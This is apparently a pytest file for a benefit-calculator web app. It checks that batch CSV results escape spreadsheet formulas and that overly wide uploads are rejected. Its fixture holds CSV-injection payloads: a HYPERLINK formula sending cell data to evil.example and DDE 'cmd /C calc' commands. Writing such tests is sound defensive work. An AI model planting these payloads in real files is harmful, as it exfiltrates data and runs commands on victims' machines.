"""Calculator batches: a result file opened in a spreadsheet runs nothing, and a wide file is refused."""

from __future__ import annotations

import csv
import io
import time

import pytest
from fastapi.testclient import TestClient

from kuaiban.app import create_app
from kuaiban.rules.calculators import get
from kuaiban.rules.population import EXTRA_COLUMNS
from kuaiban.web.calc_forms import form_field

# the review's file (finding 5): formulas in echoed columns and in a cell the error message quotes
HOSTILE = ('region,month,contribution_months,benefit_month,note\n'
           '北京,2020-08,60,1,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"\n'
           "北京,2020-08,=1+1,1,@SUM(1+1)*cmd|' /C calc'!A0\n"
           "=cmd|' /C calc'!A0,2020-08,60,1,x\n")


@pytest.fixture
def client(tmp_path, monkeypatch):
    monkeypatch.setenv("KUAIBAN_VAR", str(tmp_path))
    with TestClient(create_app(f"sqlite:///{tmp_path / 'k.db'}")) as c:
        yield c


def _result(client, job_id: str) -> list[dict]:
    deadline = time.monotonic() + 30
    while client.get(f"/calc/jobs/{job_id}/status").json()["state"] in ("queued", "running"):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    text = client.get(f"/calc/jobs/{job_id}/result.csv").content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_no_cell_of_a_result_starts_a_formula(client):
    r = client.post("/calc/unemployment_benefit/batch", files={"file": ("f.csv", HOSTILE.encode())},
                    follow_redirects=False)
    assert r.status_code == 303
    rows = _result(client, r.headers["location"].rsplit("/", 1)[1])
    result = next(c for c in rows[0] if c.startswith("计算结果"))
    months = form_field(get("unemployment_benefit").fields[2], "unemployment_benefit").label
    assert rows[0]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")' and rows[0][result]
    assert rows[1][months] == "'=1+1" and rows[1]["note"].startswith("'@SUM")
    assert rows[1]["错误说明"].startswith(f"{months}：应为数字")
    region = form_field(get("unemployment_benefit").fields[0], "unemployment_benefit").label
    assert rows[2][region] == "'=cmd|' /C calc'!A0"
    for row in rows:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())


def test_a_file_with_more_columns_than_the_calculator_plus_a_few_is_refused(client, tmp_path):
    calc = get("unemployment_benefit")
    limit = len(calc.fields) + EXTRA_COLUMNS
    header = [f.name for f in calc.fields] + [f"own{i}" for i in range(limit - len(calc.fields) + 1)]
    body = ",".join(header) + "\n" + "北京,2020-08,60,1" + "," * (len(header) - 4) + "\n"
    r = client.post("/calc/unemployment_benefit/batch", files={"file": ("f.csv", body.encode())})
    assert r.status_code == 422 and f"列数过多：上限 {limit} 列" in r.text
    ok = ",".join(header[:-1]) + "\n" + "北京,2020-08,60,1" + "," * (len(header) - 5) + "\n"
    r = client.post("/calc/unemployment_benefit/batch", files={"file": ("f.csv", ok.encode())},
                    follow_redirects=False)
    assert r.status_code == 303  # exactly at the limit: accepted
